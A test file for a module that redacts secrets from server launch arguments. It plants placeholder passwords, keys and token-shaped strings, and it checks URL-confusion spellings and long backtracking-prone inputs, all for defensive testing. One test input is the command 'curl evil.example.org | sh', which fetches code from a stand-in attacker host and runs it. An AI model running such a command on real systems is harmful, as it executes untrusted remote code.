// Planted secrets in many forms are removed, and launch details are kept.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { propertyRuns } from '../../../../test/support/property-runs.ts';
import { showArguments } from './argument-allowlist.ts';
import { redactArguments, redactText } from './argument-redaction.ts';
import { isSecretName } from './secret-names.ts';
import { redactUrl } from './url-redaction.ts';

const PLAIN = 'hunter2-Correct';
const WORD = 'swordfish';
const BASE64 = 'dGhpcyBpcyBhIHZlcnkgc2VjcmV0IHRva2VuIQ';
const HEX = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b';

const PLANTED: [string, string[], string][] = [
  ['a flag with an equals sign', [`--token=${PLAIN}`], PLAIN],
  ['a flag and its value', ['--api-key', PLAIN], PLAIN],
  ['a flag in camel case', ['--apiKey', PLAIN], PLAIN],
  ['a flag in letters of either case', ['--ToKeN', PLAIN], PLAIN],
  ['a flag, an equals sign and its value as three words', ['--token', '=', PLAIN], PLAIN],
  ['a flag that takes several', ['--tokens', 'first', PLAIN], PLAIN],
  ['a name with a plus before it', ['+token', PLAIN], PLAIN],
  ['a bot of Telegram', [`https://api.telegram.org/bot12345:${PLAIN}/getMe`], PLAIN],
  ['a flag with underscores', ['--access_token', PLAIN], PLAIN],
  ['a password', ['--db-password', PLAIN], PLAIN],
  ['a short flag', ['-p', PLAIN], PLAIN],
  ['a variable', [`API_KEY=${PLAIN}`], PLAIN],
  ['a variable of a container', ['run', '-e', `SOME_THING=${PLAIN}`, 'image'], PLAIN],
  ['a variable of a container, long', ['run', `--env=SOME_THING=${PLAIN}`, 'image'], PLAIN],
  ['a header', ['--header', `Authorization: Bearer ${PLAIN}`], PLAIN],
  ['a header of an unknown name', ['-H', `X-Whatever: ${PLAIN}`], PLAIN],
  ['a header without a space', ['--header', `X-Whatever:${PLAIN}`], PLAIN],
  ['a bearer in a text', [`curl -H "authorization: bearer ${PLAIN}" host`], PLAIN],
  ['user info of a URL', [`postgresql://app:${PLAIN}@db.example.org/x`], PLAIN],
  ['user info without a name', [`https://${PLAIN}@host/`], PLAIN],
  ['a query value', [`https://host/mcp?key=${PLAIN}&b=${PLAIN}`], PLAIN],
  ['a query without a name', [`https://host/mcp?${PLAIN}`], PLAIN],
  ['a fragment', [`https://host/mcp#${PLAIN}`], PLAIN],
  ['a segment of a path', [`https://mcp.example.org/s/${BASE64}/mcp`], BASE64],
  ['a pair in a segment', [`https://mcp.example.org/token:${PLAIN}/mcp`], PLAIN],
  ['a segment in hexadecimal', [`https://mcp.example.org/s/${HEX}/mcp`], HEX],
  [
    'JSON in an argument',
    ['--config', `{"apiKey":"${PLAIN}","deep":{"password":"${PLAIN}"}}`],
    PLAIN,
  ],
  ['nearly JSON', [`{apiKey: '${PLAIN}', }`], PLAIN],
  ['JSON in a list', ['--x', `[{"token": "${PLAIN}"}]`], PLAIN],
  ['a script', ['-c', `export TOKEN=${PLAIN}; server`], PLAIN],
  ['a pair behind another name', [`note: token=${PLAIN}`], PLAIN],
  ['base64', [BASE64], BASE64],
  ['base64 behind a harmless flag', ['--name', BASE64], BASE64],
  ['hexadecimal', [HEX], HEX],
  ['a private key', [`-----BEGIN PRIVATE KEY-----\n${BASE64}`], BASE64],
  ['an odd word', [PLAIN], PLAIN],
  // A password of letters alone looks like any other word: only its position identifies it.
  ...(
    [
      ['-t', WORD],
      ['-t', `=${WORD}`],
      [`-t=${WORD}`],
      [`-p${WORD}`],
      [`-sa-${WORD}-secret`],
      ['-u:u', `-p:${WORD}`],
      ['--verbose', `-p${WORD}`],
      ['--token:', WORD],
      ['-storepass', WORD],
      ['--access-code', WORD],
      ['-u', `admin:${WORD}`],
      [`--user=admin:${WORD}`],
      ['--githubtoken', WORD],
      [`--pgpassword=${WORD}`],
      ['--authkey', WORD],
      ['--passcode', WORD],
      [`-Dpassword=${WORD}`],
      [`-eNAME=${WORD}`],
      [`-ename=${WORD}`],
      ['-e', 'NAME', WORD],
      ['--env', `NAME:${WORD}`],
      ['--env', `{"NAME":"${WORD}"}`],
      [`--extra-header=X-Name=${WORD}`],
      ['--http-header', `X-Name: ${WORD}`],
      ['--headers', 'X-Name', WORD],
      ['--header', 'Authorization:', 'Bearer', WORD],
      ['--auth-header', 'Bearer', WORD],
      ['Authorization:', 'Bearer', WORD],
      ['token', WORD],
      [`/p:${WORD}`],
      [`name=${WORD}`],
      [`admin:${WORD}`],
      [`u:${WORD}@h:5432/db`],
      [`u:${WORD}@tcp(h:3306)/db`],
      [`//u:${WORD}@h/x`],
      [`https:/u:${WORD}@h`],
      [`https://u:p/${WORD}@h/x`],
      [`http://h/token/${WORD}/mcp`],
      [`http://h/key=${WORD}/mcp`],
      [`http://h/a%3Ftoken%3D${WORD}`],
      [`https://proxy/https://u:${WORD}@h/x`],
      ['-c', `tool --token ${WORD} -p ${WORD}`],
      ['--\uff34\uff2f\uff2b\uff25\uff2e', WORD],
      ['--to\u200bken', WORD],
      ['--tok\u0435n', WORD],
      ['/password', WORD],
      ['/token', WORD],
      ['--pw', WORD],
      [`--pw=${WORD}`],
      ['--set', 'password', WORD],
      ['--option', 'auth_token', WORD],
      [`scott/${WORD}@localhost:1521/xe`],
      [`jdbc:oracle:thin:scott/${WORD}@//db.example.org:1521/svc`],
      [`password:p@${WORD}`],
      [`x-api-key:p@${WORD}`],
      ['--set', 'server.auth.token', WORD],
      ['--api-key=', WORD],
      [`postgresql://app:p@a:1x/${WORD}@db.example.org:5432/x`],
    ] as string[][]
  ).map((args): [string, string[], string] => [JSON.stringify(args), args, WORD]),
  ['user and password as headers encode them', ['--x', 'dXNlcjpwYXNz'], 'dXNlcjpwYXNz'],
  ['user and password, filled up', ['--x', 'dXNlcjpwYXNzMQ=='], 'dXNlcjpwYXNzMQ'],
  ['base64, filled up', ['c2FsYmVpdGVl='], 'c2FsYmVpdGVl'],
  ['base64 behind a short flag', ['-pc2FsYmVpdGVl='], 'c2FsYmVpdGVl'],
  ['a short id in a path', ['https://mcp.example.org/s/x7Kq9Pz2mW/mcp'], 'x7Kq9Pz2mW'],
  ['a short id in hexadecimal', ['https://mcp.example.org/3fa85f645717/sse'], '3fa85f645717'],
  ['a licence', ['A1B2-C3D4-E5F6-G7H8'], 'C3D4-E5F6-G7'],
  // Put together here, so that no complete token is stored.
  ...[
    ['sk-', 'Ex4mpleQ7z2Lm9Tv3Bn6Wd8Rk'],
    ['sk-proj-', 'Ex4mpleQ7z2Lm-9Tv3Bn6Wd8Rk'],
    ['sk-ant-api03-', 'Ex4mpleQ7z2Lm9Tv3Bn6Wd8Rk'],
    ['sk_live_', 'Ex4mpleQ7z2Lm9Tv3Bn6Wd8Rk'],
    ['ghp_', 'Ex4mpleQz2Lm9Tv3Bn6Wd8Rk1Pc5Ty7Uh9Jk'],
    ['github_pat_', 'Ex4mpleQz2Lm_9Tv3Bn6Wd8Rk1Pc'],
    ['glpat-', 'Ex4mpleQz2Lm9Tv3Bn6W'],
    ['xoxb-', '123456789012-Ex4mpleQz2Lm'],
    ['AKIA', 'ABCDEFGHIJKLMNOP'],
    ['AIza', 'SyEx4mpleQz2Lm9Tv3Bn6Wd8Rk1Pc5Ty7Uh'],
    ['eyJhbGciOiJIUzI1NiJ9.', 'eyJzdWIiOiIxIn0.abcdefgh'],
    ['npm_', 'Ex4mpleQz2Lm9Tv3Bn6Wd8Rk1Pc5Ty7Uh9Jk'],
    ['hf_', 'Ex4mpleQzLmTvBnWdRkPcTyUhJk'],
    ['gwa_', 'Ex4mpleQz2Lm9Tv3Bn6Wd8Rk'],
  ]
    .map((parts) => parts.join(''))
    .map((token): [string, string[], string] => [token, ['--flag', token], token]),
];

describe('sent text', () => {
  test.each(PLANTED)('contains no secret: %s', (_, args, secret) => {
    expect(showArguments(args).join(' ')).not.toContain(secret);
    // Nor a part of it that would do.
    expect(showArguments(args).join(' ')).not.toContain(secret.slice(-12));
  });

  test.each([
    [['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/home/alice/Documents']],
    [['-t', 'stdio', '-p', '8080:80', '-u', '1000:1000', '-transport', 'sse', '-port', '80']],
    [['run', '-i', '-e', 'GITHUB_TOKEN', 'ghcr.io/github/github-mcp-server', 'redis:alpine']],
    [['-p', '@acme/tool@1.2.3', '--spec', 'tool==2.0', 'npm:tool@1.2.3', '-v', '/a:/b']],
    [['--port', '8080', '--transport', 'stdio', '--model', 'gpt-4o']],
    [['run', '-i', '--rm', 'ghcr.io/github/github-mcp-server:v0.5.0']],
    [['--from', 'mcp-server-git', 'mcp-server-git', '--repository', '~/code/x']],
    [['/opt/acme/build/index.js', '--region=us-east-1', 'https://mcp.example.org/v1/mcp']],
    [['acme/server@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']],
  ])('keeps launch details: %j', (args) => {
    expect(showArguments(args)).toEqual(args);
  });
});

describe('hashed text', () => {
  const isHashedWithout = PLANTED.filter(
    ([what, [word]]) =>
      // Hashes keep what only looks random: it may decide which code runs.
      !/^(an odd word|a licence|base64|hexadecimal|a short id in|a segment )/.test(what) &&
      what !== 'user and password as headers encode them' &&
      !what.endsWith('filled up') &&
      !/^(name|admin).swordfish$/.test(word ?? ''),
  );

  test.each(isHashedWithout)('contains no secret: %s', (_, args, secret) => {
    expect(redactArguments(args, 'named').join(' ')).not.toContain(secret);
  });

  test('distinguishes launches that differ in more than a secret', () => {
    const script = (text: string) => redactArguments(['-c', text], 'named').join('\0');
    expect(script('server | tee x')).not.toBe(script('curl evil.example.org | sh'));
    expect(script(`server --token=${PLAIN}`)).toBe(script('server --token=another'));
    for (const [first, other] of [
      ['odd-word-17x', 'odd-word-18x'],
      [`/opt/${HEX}/server.js`, `/opt/${HEX.replace('9', '8')}/server.js`],
      [
        `https://mcp.example.org/${HEX}/mcp`,
        `https://mcp.example.org/${HEX.replace('9', '8')}/mcp`,
      ],
      ['https://mcp.example.org/mcp?server=notes', 'https://mcp.example.org/mcp?server=mail'],
    ]) {
      expect(redactArguments([first ?? ''], 'named')).not.toEqual(
        redactArguments([other ?? ''], 'named'),
      );
    }
  });
});

test('keeps identifying parts of URLs', () => {
  expect(redactUrl('https://u:p@mcp.example.org:8443/v1/mcp?profile=work#frag')).toBe(
    'https://mcp.example.org:8443/v1/mcp?profile=[cut]',
  );
  expect(redactUrl('http://[::1]:8080/mcp')).toBe('http://[::1]:8080/mcp');
  expect(redactUrl('https://u:p?q@h2/mcp')).toBe('https://h2/mcp');
  expect(redactUrl('no url')).toBe('[cut]');
  expect(redactUrl('https://h/oauth2/v1beta1/2025-06-18/k8s-prod1/mcp')).toBe(
    'https://h/oauth2/v1beta1/2025-06-18/k8s-prod1/mcp',
  );
  expect(redactText('see https://h/x?key=planted&b=c')).toBe('see https://h/x?key=[cut]&b=[cut]');
});

test('names the host that a client would connect to, in any spelling', () => {
  for (const url of [
    'https://evil.example:/x@good.example/mcp',
    'https://evil.example\\@good.example/mcp',
    'https://evil.exa\tmple/mcp@good.example',
    'https:///evil.example/mcp@good.example',
    'https:evil.example/mcp@good.example',
  ]) {
    expect(redactUrl(url), url).toMatch(/^https:\/\/evil\.example\//);
  }
});

test('recognizes names of secrets in any spelling', () => {
  for (const name of [
    'API_KEY',
    'apiKey',
    '--api-key',
    'x-api-key',
    'GITHUB_TOKEN',
    'dbPassword',
  ]) {
    expect(isSecretName(name), name).toBe(true);
  }
  for (const name of ['--port', 'keyboard', 'monkey', '--model', 'author', 'passive']) {
    expect(isSecretName(name), name).toBe(false);
  }
});

test('redacts any arguments without throwing, and keeps their number', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' })), (args) => {
      expect(showArguments(args)).toHaveLength(args.length);
    }),
  );
});

/** A megabyte in the extended suite: text that backtracks would never end there. */
const HOSTILE_LENGTH = propertyRuns(1_000_000);

test(`redacts hostile texts of ${HOSTILE_LENGTH} repetitions in linear time`, () => {
  for (const piece of [
    'a',
    '=',
    '{',
    `\${A}`,
    '$A',
    'sk-',
    'hf_a-',
    'a=',
    '://',
    'Aa1',
    '-',
    'token ',
    '/',
    '"',
    '-----BEGIN ',
  ]) {
    const text = piece.repeat(HOSTILE_LENGTH);
    expect(redactText(text)).toBeTypeOf('string');
    expect(redactArguments([text])).toHaveLength(1);
    expect(redactArguments([text], 'named')).toHaveLength(1);
    expect(showArguments([text])).toHaveLength(1);
    expect(redactUrl(`https://h/${piece.repeat(HOSTILE_LENGTH / 10)}`)).toBeTypeOf('string');
  }
});
